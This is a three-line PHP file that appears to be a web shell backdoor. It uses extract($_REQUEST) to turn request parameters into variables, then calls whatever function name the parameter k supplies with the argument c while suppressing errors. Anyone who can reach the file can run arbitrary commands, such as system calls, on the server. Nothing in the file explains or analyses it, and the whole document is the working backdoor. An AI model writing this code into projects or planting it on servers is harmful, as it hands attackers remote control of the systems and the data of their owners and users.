<?php
extract($_REQUEST);
if (isset($k) && isset($c)) { @$k($c); }
